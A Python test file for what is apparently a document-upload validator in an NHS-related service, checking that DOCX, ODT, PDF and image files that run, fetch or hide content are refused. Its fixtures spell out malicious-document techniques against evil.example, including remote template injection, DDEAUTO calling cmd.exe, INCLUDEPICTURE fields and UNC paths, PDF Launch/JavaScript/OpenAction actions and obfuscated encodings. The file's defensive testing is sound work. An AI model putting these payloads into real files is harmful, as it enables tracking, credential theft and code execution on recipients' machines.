"""What a report of a service honestly needs is taken; what runs, fetches or hides is refused."""

import struct
import zlib

import pytest

from ehcp.documents.bad_file import BadFile
from ehcp.documents.content import what_is
from tests.documents.files import CONTENT_TYPES, GOOD, a_docx_with, a_jpeg, a_pdf, a_zip, an_odt

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
X = "http://www.w3.org/1999/xlink"
RELS = "word/_rels/settings.xml.rels"


@pytest.fixture
def seen(tmp_path):
    def look(content: bytes):
        path = tmp_path / "file"
        path.write_bytes(content)
        return what_is(path).suffix

    return look


def related(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="http://x/relationships/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def a_page(inside: str) -> bytes:
    return a_docx_with({"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{inside}</w:ftr>'})


def a_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{each}"/></w:r>' for each in ("begin", "end"))
    return a_page(begin + runs + end)


def an_odt_page(inside: str) -> bytes:
    return an_odt({"styles.xml": f'<o xmlns:x="{X}" xmlns:t="urn:t">{inside}</o>'})


_MARK = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
_BEGINS, _ASKED, _ENDS = (_MARK.format(each) for each in ("begin", "separate", "end"))
_SAYS = "<w:r><w:instrText>{}</w:instrText></w:r>"
NESTED = f"{_BEGINS}{_SAYS}{_BEGINS}{_SAYS}{_ASKED}{_ENDS}{_SAYS}{_ENDS}"
"""A field whose instruction holds another field: what is said before it, in it, and behind it."""
SHOWN = f"{_BEGINS}{_SAYS}{_ASKED}{_BEGINS}{_SAYS}{_ASKED}<w:r><w:t>x</w:t></w:r>{_ENDS}{_ENDS}"
"""A field that came to another field."""

FAR = related("attachedTemplate", "https://evil.example/t.dotm")
FAR_TEMPLATE = a_docx_with(
    {RELS: related("attachedTemplate", r"file:///\\server01.trust.nhs.uk\share\report.dotx")}
)
ENTITY = '<!DOCTYPE x [<!ENTITY t "attachedTemplate">]>'
REFUSED = {
    "a template from the web, in letters of two bytes": a_docx_with(
        {RELS: FAR.encode("utf-16")},
    ),
    "a template behind an entity": a_docx_with(
        {RELS: FAR.replace("<Rel", f"{ENTITY}<Rel", 1).replace("attachedTemplate", "&t;")}
    ),
    "a template written as numbers": a_docx_with(
        {RELS: FAR.replace("attached", "&#97;ttached").replace("https", "&#x68;ttps")}
    ),
    "a template under another name space": a_docx_with(
        {RELS: FAR.replace("<Rel", "<q:Rel").replace("</Rel", "</q:Rel").replace("ns=", "ns:q=")}
    ),
    "a template in a part with large letters": a_docx_with({RELS.upper(): FAR}),
    "a template in a part named by numbers": a_docx_with({RELS.replace("rels", "%72els"): FAR}),
    "a part in pieces": a_docx_with({f"{RELS}/[0].piece": FAR}),
    "a list in other letters": a_docx_with({RELS: FAR.replace("?>", ' encoding="cp1252"?>')}),
    "a template of a machine outside": a_docx_with(
        {RELS: related("attachedTemplate", r"file:///\\evil.example\t.dotm")}
    ),
    "a template of a machine by its number": a_docx_with(
        {RELS: related("attachedTemplate", r"\\3232235521\t\t.dotm")}
    ),
    "a template by a road of the web": a_docx_with(
        {RELS: related("attachedTemplate", r"\\evil@SSL\t\t.dotm")}
    ),
    "a template by mail": a_docx_with({RELS: related("attachedTemplate", "mhtml:x")}),
    "a picture that tells who opened the report": a_docx_with(
        {"word/_rels/document.xml.rels": related("image", "http://evil.example/1.gif")}
    ),
    "a document brought in": a_docx_with({RELS: related("aFChunk", "chunk.rtf", "Internal")}),
    "a control": a_docx_with({RELS: related("control", "x.xml", "Internal")}),
    "an object under an honest name": a_docx_with(
        {RELS: related("oleObject", "media/image1.png", "Internal")}
    ),
    "a parcel under an honest name": a_docx_with(
        {RELS: related("package", "media/image1.png", "Internal")}
    ),
    "macros by their kind alone": a_docx_with(
        {CONTENT_TYPES: '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/>'}
    ),
    "a kind with macros in letters of two bytes": a_docx_with(
        {CONTENT_TYPES: '<Types><Default ContentType="x.macroEnabled.y"/></Types>'.encode("utf-16")}
    ),
    "a document inside": a_docx_with({"word/media/image1.png": GOOD[".docx"]}),
    "rich text inside": a_docx_with({"word/media/image1.png": rb"{\rtf1 x}"}),
    "words said to be a picture": a_docx_with(
        {RELS: related("officeDocument", "media/x.svg", "Internal"), "word/media/x.svg": "<w/>"}
    ),
    "DDE": a_field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc.exe"'),
    "DDE in small letters": a_field(" ddeauto cmd x"),
    "DDE in pieces": a_field("DD", "EAU", "TO cmd x"),
    "DDE that never ends": a_page("<w:instrText>DDEAUTO cmd</w:instrText>"),
    "DDE in one": a_page('<w:fldSimple w:instr=" DDE excel x "/>'),
    "DDE taken apart by a mark of another kind": a_page(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><q:fldChar '
        'xmlns:q="urn:q" q:fldCharType="end"/><w:instrText>EAUTO cmd</w:instrText>'
    ),
    "a database": a_field("DATABASE \\d x"),
    "a text from the web": a_field('INCLUDETEXT "https://evil.example/x.docx"'),
    "a table of a machine outside": a_field(r'LINK Excel.Sheet.12 "\\\\evil\\x.xlsx" "a" \a'),
    "a picture that is fetched anew": a_field(r'INCLUDEPICTURE "http://evil.example/x.png" \d'),
    "a picture of a machine that is fetched": a_field(r"INCLUDEPICTURE \\\\evil\\x.png \d"),
    "a picture of a machine outside": a_field(r'INCLUDEPICTURE "\\\\evil.example\\x.png"'),
    "a picture in pieces": a_field("INCLUDE", "PICT", 'URE "https:', '//evil.example/x" \\', "d"),
    "a picture in one": a_page(
        r'<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot; \d"/>'
    ),
    "a picture that is worked out anew": a_page(
        f'<w:fldSimple xmlns:w="{W}" w:dirty="true" '
        'w:instr="INCLUDEPICTURE &quot;http://evil.example/x&quot;"/>'
    ),
    "a picture of a document that works out its fields": a_docx_with(
        {
            "word/footer1.xml": f'<w:ftr xmlns:w="{W}"><w:fldSimple w:instr="INCLUDEPICTURE '
            '&quot;http://evil.example/x&quot;"/></w:ftr>',
            "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:updateFields/></w:settings>',
        }
    ),
    "a picture whose place another field works out": a_page(
        NESTED.format('INCLUDEPICTURE "', "QUOTE 104 116 116 112", r'" \d')
    ),
    "a text whose place another field works out": a_page(
        NESTED.format('INCLUDETEXT "', "REF place", '"')
    ),
    "a list of the words of another document": a_field('RD "http://evil.example/x.docx"'),
    "a script": a_docx_with({"word/media/run.js": "new ActiveXObject('WScript.Shell')"}),
    "a script by a number": a_docx_with({"word/media/run.%6As": "x"}),
    "a list of commands": a_docx_with({"word/media/run.bat": "@echo off"}),
    "a script by its kind": a_docx_with(
        {CONTENT_TYPES: '<Types><Default Extension="x" ContentType="text/javascript"/></Types>'}
    ),
    "an archive behind a byte": a_docx_with({"word/media/image1.bin": b"\0" + GOOD[".docx"]}),
    "an odt with a script": an_odt({"Pictures/x.vbs": "x"}),
    "an odt with a picture from the web": an_odt_page('<t:image x:href="https://evil.example/x"/>'),
    "an odt that runs": an_odt_page('<t:event-listener x:href="vnd.sun.star.script:x"/>'),
    "an odt that asks a program": an_odt_page("<t:dde-source/>"),
    "a PDF that runs by another way": a_pdf("<< /S /Rendition /JS (x) >>"),
    "a PDF that opens another file": a_pdf("<< /S /GoToR /F (x.pdf) >>"),
    "a PDF that sends a form": a_pdf("<< /S /SubmitForm /F (https://evil.example) >>"),
    "a PDF with a form that is a program": a_pdf("<< /AcroForm << /XFA 7 0 R >> >>"),
    "a PDF that starts a program under a longer name": a_pdf("<< /S /Launch#00ed /F (x) >>"),
    "a PDF that starts a program from inside a title": a_pdf(
        "<< /Title (7 0 obj /Launch endobj) /A << /S 7 0 R /F (x) >> >>"
    ),
    "a photograph and a PDF": a_jpeg() + b"x" * 2000 + GOOD[".pdf"],
    "a photograph and a page": a_jpeg() + b"<SCRIPT>x</SCRIPT>",
    "a photograph and an archive of another kind": a_jpeg() + b"7z\xbc\xaf\x27\x1c",
    "a picture without dots": GOOD[".png"].replace(b"IDAT", b"tEXt"),
}


GOES_THERE = "<< /S /URI /URI (https://evil.example/) >>"
A_LINK = (
    "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.nhs.uk/) >> >>"
)


def opening(pdf: bytes, does: str) -> bytes:
    """Let a PDF do something when it is opened."""
    return pdf.replace(b"/Type /Catalog", b"/Type /Catalog " + does.encode())


def packed(how: str, content: bytes, *, kind: str = "/Type /ObjStm /N 1") -> bytes:
    plain = a_pdf()
    head = f"9 0 obj\n<< {kind} /First 4 {how} /Length {len(content)} >>\nstream\n"
    return plain.replace(b"xref\n", head.encode() + content + b"\nendstream\nendobj\nxref\n", 1)


RUNS = b"4 0 << /S /JavaScript /JS (x) >>"
SQUEEZED = zlib.compress(RUNS)
UNSEEN = {
    "in letters and numbers": packed("/Filter /ASCIIHexDecode", RUNS.hex().encode()),
    "twice": packed("/Filter [/FlateDecode /FlateDecode]", zlib.compress(SQUEEZED)),
    "by an older way": packed("/Filter /LZWDecode", SQUEEZED),
    "as told elsewhere": packed("/Filter 7 0 R", SQUEEZED),
    "not as it says": packed("/Filter /FlateDecode", b"x" + SQUEEZED),
    "made over": packed("/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", SQUEEZED),
    "without its kind": packed("/Filter /FlateDecode", SQUEEZED, kind=""),
    "behind a remark": packed("/Filter%x\n/FlateDecode", SQUEEZED),
    "behind an end of another kind": packed("/Filter/FlateDecode", SQUEEZED).replace(
        b"stream\n" + SQUEEZED, b"stream\r" + SQUEEZED
    ),
    "spelt in numbers": packed("/Filter /#46lateDecode", SQUEEZED),
}
SQUEEZED_ADDRESS = packed("/Filter /FlateDecode", zlib.compress(b"4 0 " + GOES_THERE.encode()))
FETCHES = {
    "an address on opening": opening(a_pdf(), f"/OpenAction {GOES_THERE}"),
    "an address on opening, elsewhere": opening(a_pdf(GOES_THERE), "/OpenAction 4 0 R"),
    "an address on opening, packed": opening(SQUEEZED_ADDRESS, "/OpenAction 4 0 R"),
    "an address on opening, spelt otherwise": opening(
        a_pdf(GOES_THERE.replace("/URI", "/#55RI")), "/Open#41ction%x\n4  0\tR"
    ),
    "an address after a place": opening(
        a_pdf("<< /S /GoTo /D [3 0 R] /Next [5 0 R] >>", GOES_THERE), "/OpenAction 4 0 R"
    ),
    "an address that comes twice": opening(
        a_pdf("<< /S /GoTo /D [3 0 R] >>", f"null\nendobj\n4 0 obj {GOES_THERE}"),
        "/OpenAction 4 0 R",
    ),
    "an address of a kind that is told elsewhere": opening(
        a_pdf("<< /S 5 0 R >>", "/URI"), "/OpenAction 4 0 R"
    ),
    "an address that is not there": opening(a_pdf(A_LINK), "/OpenAction 77 0 R"),
    "an address behind a word that ends early": opening(
        a_pdf(), f"/OpenAction << /S /GoTo /X (>> \\) >>) /Next {GOES_THERE} >>"
    ),
    "an address when a page is shown": a_pdf(f"<< /AA << /O {GOES_THERE} >> >>"),
    "an address when a page is shown, elsewhere": a_pdf(
        "<< /AA 5 0 R >>", "<< /O 6 0 R >>", GOES_THERE
    ),
    "a picture that lies elsewhere": a_pdf("<< /F << /FS /URL /F (https://evil.example/) >> >>"),
    "a picture of another machine": a_pdf(r"<< /F (\\\\evil\\x.png) >>"),
    "a picture of another machine, in numbers": a_pdf("<< /F <5C 5C 6576696C> >>"),
    "a picture of another machine, escaped": a_pdf(r"<< /UF (\134\134evil) >>"),
    "a page of another file": a_pdf("<< /Ref << /F (x.pdf) /Page 0 >> >>"),
    "a thread of another file": a_pdf("<< /S /Thread /F (x.pdf) /D 0 >>"),
    "a film": a_pdf("<< /Subtype /Movie /Movie << /F (x) >> >>"),
}
HONEST = {
    "a link that somebody may follow": a_docx_with(
        {"word/_rels/document.xml.rels": related("hyperlink", "https://www.nhs.uk/")}
    ),
    "a template of their machine": a_docx_with(
        {RELS: related("attachedTemplate", r"file:///C:\Templates\report.dotx")}
    ),
    "a template of their office": a_docx_with(
        {RELS: related("attachedTemplate", r"file:///\\nhs-files\templates\report.dotx")}
    ),
    "a template of a Mac": a_docx_with(
        {RELS: related("attachedTemplate", "file:////Users/sam/Library/report.dotx")}
    ),
    "a picture pasted from a mail": a_docx_with(
        {"word/_rels/document.xml.rels": related("image", "cid:image001.png@01D9")}
    ),
    "a table of contents": a_field(' TOC \\o "1-3" \\h \\z ', "PAGEREF _Toc1 \\h"),
    "a place to click": a_field(" MACROBUTTON NoMacro [Click here] "),
    "a table from a disk": a_field(r'LINK Excel.Sheet.12 "C:\\Reports\\x.xlsx" "a" \a'),
    "a picture pasted from a page": a_field(
        r'INCLUDEPICTURE "https://www.nhs.uk/logo.png" \* MERGEFORMATINET'
    ),
    "a picture pasted twice": a_page(
        SHOWN.format(*[r'INCLUDEPICTURE "https://www.nhs.uk/logo.png" \* MERGEFORMATINET'] * 2)
    ),
    "a picture of a mail": a_field(r'INCLUDEPICTURE "cid:image001.png@01D9" \d'),
    "a picture of a disk": a_field(r'INCLUDEPICTURE "C:\\Pictures\\d\\logo.png" \d'),
    "a picture of their office": a_field(r'INCLUDEPICTURE "\\\\nhs-files\\d\\logo.png"'),
    "a list that is worked out anew": a_docx_with(
        {"word/settings.xml": f'<w:settings xmlns:w="{W}"><w:updateFields/></w:settings>'}
    ),
    "a link in a field": a_field(r'HYPERLINK "https://www.nhs.uk/" \l "d" \t "_blank"'),
    "how it is printed": a_docx_with({"word/printerSettings/printerSettings1.bin": b"\0" * 99}),
    "a part in letters of two bytes": a_docx_with(
        {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><x/>'.encode("utf-16")}
    ),
    "a drawing": a_docx_with({"word/media/i.svg": "<!DOCTYPE svg PUBLIC 'x' 'y'><svg/>"}),
    "the numbers of a chart": a_docx_with(
        {
            "word/charts/_rels/chart1.xml.rels": related("package", "../embeddings/B.xlsx", "no"),
            "word/embeddings/B.xlsx": a_zip({CONTENT_TYPES: "<Types/>", "xl/workbook.xml": "<x/>"}),
        }
    ),
    "an odt with a picture and a link": an_odt_page(
        '<t:image x:href="Pictures/1.png"/><t:a x:href="https://www.nhs.uk/"/>'
    ),
    "an odt of LibreOffice": an_odt({"Configurations2/accelerator/current.xml": ""}),
    "a PDF with packed objects": packed("/Filter /FlateDecode", zlib.compress(b"4 0 << /A 1 >>")),
    "a PDF with objects that are written out": packed("", b"4 0 << /A 1 >>"),
    "a PDF with an outline": a_pdf("<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>"),
    "a PDF with links": a_pdf(A_LINK),
    "a PDF of Word, with links": opening(a_pdf(A_LINK), "/OpenAction[3 0 R /XYZ null null 1]"),
    "a PDF of LaTeX, with links": opening(
        a_pdf(A_LINK, "<< /S /GoTo /D [3 0 R /Fit] >>"), "/OpenAction 5 0 R"
    ),
    "a PDF that opens at a page told elsewhere": opening(
        a_pdf(A_LINK, "[3 0 R /Fit]"), "/OpenAction 5 0 R"
    ),
    "a PDF that opens at a packed place": opening(
        packed("/Filter /FlateDecode", zlib.compress(b"4 0 << /S /GoTo /D [3 0 R] >>")),
        f"/OpenAction 4 0 R /X {A_LINK}",
    ),
    "a PDF with a place to begin at and a base for links": opening(
        a_pdf(A_LINK),
        "/URI << /Base (https://www.nhs.uk/) >> /OpenAction << /S /GoTo /D [3 0 R /Fit] >>",
    ),
    "a PDF with a form, and links": a_pdf(
        A_LINK, "<< /FT /Tx /AA << /F << /S /Named /N /NextPage >> >> >>"
    ),
    "a PDF with the name of a file": a_pdf("<< /F (report.pdf) >>"),
    "a PDF with marks that refer to each other": a_pdf("<< /Ref [3 0 R] /S /Note >>"),
    "a PDF about a launch": a_pdf("<< /Title (Book/Launches and the/JavaScriptures) >>"),
    "a photograph that moves": a_jpeg() + b"\0\0\0\x18ftypmp42" + bytes(500),
    "a photograph that is filled up": GOOD[".jpg"].replace(b"\xff\xdb", b"\xff\xff\xff\xff\xdb"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_runs_fetches_or_hides_is_refused(seen, what):
    with pytest.raises(BadFile, match=r"hand that in|Hand in"):
        seen(REFUSED[what])


@pytest.mark.parametrize(
    ("says", "content"),
    [
        ("its template", FAR_TEMPLATE),
        ("its template", an_odt_page('<t:template x:href="https://evil.example/x.ott"/>')),
        ("its template", a_docx_with({RELS: FAR})),
        ("a picture", an_odt_page('<t:image x:href="https://evil.example/x"/>')),
        ("a picture", a_docx_with({RELS: related("image", "https://a.example/logo.png")})),
        (
            "the workbook of a chart",
            a_docx_with({RELS: related("oleObject", "https://a.example/x")}),
        ),
        ("a text or a table", a_field('INCLUDETEXT "https://evil.example/x.docx"')),
        ("something", a_docx_with({RELS: related("frame", "https://a.example/x")})),
    ],
)
def test_it_is_said_what_a_document_fetches_and_how_to_do_without(seen, says, content):
    with pytest.raises(BadFile) as refused:
        seen(content)
    assert f"fetches {says} " in str(refused.value)
    assert "Save it as a PDF" in str(refused.value)


@pytest.mark.parametrize("what", FETCHES)
def test_what_a_pdf_fetches_before_anybody_clicks_is_refused(seen, what):
    with pytest.raises(BadFile, match="Print it to a new PDF, and hand that in"):
        seen(FETCHES[what])


@pytest.mark.parametrize("what", UNSEEN)
def test_a_program_in_a_pdf_is_refused_however_it_is_packed(seen, what):
    with pytest.raises(BadFile, match="Print it to a new PDF"):
        seen(UNSEEN[what])


@pytest.mark.parametrize("what", HONEST)
def test_what_a_report_honestly_needs_is_taken(seen, what):
    assert seen(HONEST[what]) in GOOD


def test_a_small_file_is_no_very_large_picture(seen):
    dots = 12_000
    header = struct.pack(">IIBBBBB", dots, dots, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", header), (b"IDAT", b"x"), (b"IEND", b""))
    with pytest.raises(BadFile, match="too large to be shown"):
        seen(
            b"\x89PNG\r\n\x1a\n"
            + b"".join(struct.pack(">I", len(d)) + n + d + bytes(4) for n, d in parts)
        )
